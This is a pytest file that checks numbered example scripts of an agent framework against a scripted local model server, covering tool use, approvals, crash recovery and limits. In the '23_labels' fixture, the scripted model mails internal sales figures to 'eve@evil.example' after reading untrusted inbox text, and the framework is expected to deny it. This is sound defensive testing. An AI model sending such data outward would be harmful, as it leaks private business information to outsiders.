"""The examples are short, and do what they say, against a chat-completions server on loopback."""

import asyncio
import importlib.util
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from server import Answer, Server, calls, says, serving

ROOT = Path(__file__).parents[2]
EXAMPLES = sorted((ROOT / "examples").glob("[0-9]*.py"))

SCRIPTS: dict[str, tuple[list[Answer], list[str]]] = {
    "01_loop": (
        [
            calls(("calculator", {"expression": "15% of 2,847"})),
            says("It is 427.05, which is more than 400."),
        ],
        ["ToolReturned", "15% of 2,847 = 427.05", "answered after 2 steps: It is 427.05"],
    ),
    "02_tools": (
        [
            calls(("read_file", {"path": "notes.txt"}), ("list_files", {})),
            calls(("calculator", {"expression": "1200 + 1350 + 990 + 1610"})),
            says("The total is 5,150."),
        ],
        ["The total is 5,150.", "tool_calls=3, tool_successes=3, tool_errors=0"],
    ),
    "03_memory": (
        [says("300"), says("600"), says("Yes, 600 is more.")],
        ["300\n600\nYes, 600 is more."],
    ),
    "04_recovery": (
        [
            calls(("stock", {"item": "Lampe"})),
            calls(("stock", {"item": "lamp"})),
            says("There are 17."),
        ],
        ["answered  There are 17.", "tool_successes=1, tool_errors=1, tool_retries=1"],
    ),
    "05_planning": (
        [
            says("1. Add with the calculator."),
            calls(("calculator", {"expression": "555 * 12.5"})),
            says("6,937.50"),
        ],
        ["The plan:\n1. Add with the calculator.", "The answer:\n6,937.50"],
    ),
    "06_streaming": (
        [calls(("calculator", {"expression": "(19 + 23) * 12"})), says("It is 504. That is all.")],
        ["It is 504. That is all.", "[answered]", "ToolStarted"],
    ),
    "07_own_tool": (
        [
            calls(("price", {"item": "lamp"})),
            says('{"item": "lamp", "price": "dear", "currency": "EUR"}'),
            says('{"item": "lamp", "price": 12.5, "currency": "EUR"}'),
        ],
        ["Quote(item='lamp', price=12.5, currency='EUR')"],
    ),
    "08_approval": (
        [calls(("refund", {"customer": "C-17", "amount": 250})), says("Refunded 200 euros.")],
        [
            'waits for approval: refund({"customer": "C-17", "amount": 250})',
            "answered Refunded 200 euros.",
        ],
    ),
    "09_resume": (
        [
            calls(("balance", {"account": "A-1"})),
            calls(("pay", {"account": "A-1", "amount": 300})),
            says("Paid, 600 euros are left."),
        ],
        [
            'unknown: did pay({"account": "A-1", "amount": 300}) happen?',
            "answered Paid, 600 euros are left.",
        ],
    ),
    "11_baseline": (
        [],
        [
            "against the baseline, 10 cases:",
            "+50%  0.0078  WORSE, most of all lamp",
            "the instructions have changed",
        ],
    ),
    "10_testing": (
        [],
        [
            "test_the_tool_alone: passed",
            "test_the_calls_it_makes: passed",
            "test_a_call_that_is_wrong: passed",
            "test_a_model_that_never_ends: passed",
            '≠ stock: item is "lamp", wanted "desk"',
        ],
    ),
    "12_flow": (
        [says("Ours is dark."), says("Ours is dark.")],  # side by side: whichever asks first
        [
            'waiting: approve({"what":"buy a lamp","euros":120,"why":"Ours is dark.",'
            '"offer":"Ours is dark."})',
            "answered 120 EUR paid, key ",
        ],
    ),
    "13_routing": ([says('{"value": "joke"}'), says("Purr.")], ["joke:\nPurr."]),
    "14_parallel": (
        [says("Purr.")] * 3,
        ["A story about cats:\nPurr.\n\nA joke about cats:\nPurr.\n\nA poem about cats:\nPurr."],
    ),
    "15_orchestrator": (
        [
            says(
                '{"value": [{"name": "Why", "description": "x"},'
                ' {"name": "How", "description": "y"}]}'
            ),
            says("Because."),
            says("Because."),
        ],
        ["Because.\n\n---\n\nBecause."],
    ),
    "16_evaluator": (
        [
            says("Cats."),
            says('{"feedback": "Longer.", "funny": false}'),
            says("Two cats."),
            says('{"feedback": "", "funny": true}'),
        ],
        ["Verdict(feedback='Longer.', funny=False)", "The joke:\nTwo cats."],
    ),
    "17_supervisor": (
        [
            calls(("till", {"task": "Pay C-17 250 euros back."})),
            calls(("refund", {"customer": "C-17", "amount": 250})),
            says("Paid."),
            says("C-17 has its 250 euros."),
        ],
        ["waits for approval: refund(", "answered C-17 has its 250 euros.", "model_calls=2"],
    ),
    "18_limits": (
        [says("Fine.")] * 10,
        [
            "waiting: the next model call doesn't fit: ",
            "answered ['Fine.', 'Fine.', ",
            "150 tokens of 50,150",
        ],
    ),
    "19_steering": (
        [
            calls(("survey", {"garden": "back"}), ("forecast", {"week": 21})),
            calls(("order", {"plants": "lavender"})),
            calls(("order", {"plants": "lavender"})),  # refused: it is open
            says("Two days after you have allowed it."),
            says("Lavender is ordered, no roses."),
        ],
        [
            "opened a turn: False",
            'waiting: order({"plants": "lavender"})',
            "waiting: Two days after you have allowed it.",
            "answered: Lavender is ordered, no roses.",
        ],
    ),
    "20_verify": (
        [calls(("pay", {"account": "A-1", "amount": 300})), says("Paid.")],
        ["OutcomeDecided", "by='verify'", "answered Paid. (1 payment)"],
    ),
    "21_pending": (
        [
            calls(("build", {"branch": "main"})),
            calls(("deploy", {"target": "blue"})),
            says("Main is on blue."),
        ],
        ["waiting: build", 'deploy: waits for {"deploy":"blue"}', "answered Main is on blue."],
    ),
    "22_mcp": (
        [
            calls(("stock__count", {"colour": "red"})),
            calls(("stock__order", {"colour": "red", "number": 3})),
            says("Now there are twenty."),
        ],
        ['allowed: stock__order {"colour": "red", "number": 3}', "answered Now there are twenty."],
    ),
    "23_labels": (
        [
            calls(("read_inbox", {}), ("read_books", {})),
            calls(("send_mail", {"to": "eve@evil.example", "text": "17 lamps, 850 EUR"})),
            calls(("send_mail", {"to": "ann@ours.example", "text": "17 lamps"})),
            says("I have answered Ann."),
        ],
        [
            'denied: {"to": "eve@evil.example", "text": "17 lamps, 850 EUR"}',
            "because send_mail acts outward, and this thread holds untrusted text (from read_inbox,",
            "sent to ann@ours.example: 17 lamps\nanswered I have answered Ann.",
        ],
    ),
}
CRASHES = {
    "09_resume": [["--crash"]],
    "20_verify": [["--crash"], ["--crash", "late"]],
}


@contextmanager
def listening(*answers: Answer) -> Iterator[Server]:
    """The server in a thread of its own: an example is a script that blocks."""
    ready, done = threading.Event(), asyncio.Event()
    found: list[tuple[Server, asyncio.AbstractEventLoop]] = []

    async def main() -> None:
        async with serving(*answers) as server:
            found.append((server, asyncio.get_running_loop()))
            ready.set()
            await done.wait()

    thread = threading.Thread(target=asyncio.run, args=(main(),))
    thread.start()
    ready.wait(5)
    server, loop = found[0]
    try:
        yield server
    finally:
        loop.call_soon_threadsafe(done.set)
        thread.join(5)


def test_every_example_has_a_script_here():
    assert [path.stem for path in EXAMPLES] == sorted(SCRIPTS)


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_an_example_fits_on_a_screen(path):
    assert len(path.read_text().splitlines()) <= 60


RUNS = [(path, crash) for path in EXAMPLES for crash in CRASHES.get(path.stem, [[]])]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "crash"), RUNS, ids=["".join([path.stem, *crash]) for path, crash in RUNS]
)
def test_an_example_does_what_it_says(path, crash, monkeypatch, capsys, tmp_path):
    answers, expected = SCRIPTS[path.stem]
    if path.stem == "22_mcp":
        pytest.importorskip("mcp_types", reason="needs the extra: pip install 'treadle[mcp]'")
        monkeypatch.setenv("TREADLE_MCP_CONSENTS", str(tmp_path / "consents.json"))
    with listening(*answers) as server:
        monkeypatch.setenv("TREADLE_MODEL", f"{server.url}#m")
        monkeypatch.setenv("TREADLE_DB", str(tmp_path / "treadle.db"))
        if crash:
            monkeypatch.chdir(tmp_path)
            killed = subprocess.run([sys.executable, str(path), *crash], check=False)
            assert killed.returncode == 1
        spec = importlib.util.spec_from_file_location(path.stem, path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        done = module.main()
        if asyncio.iscoroutine(done):
            asyncio.run(done)
        assert not server.answers, "the example asked less often than its script has answers"
    out = capsys.readouterr().out
    for text in expected:
        assert text in out
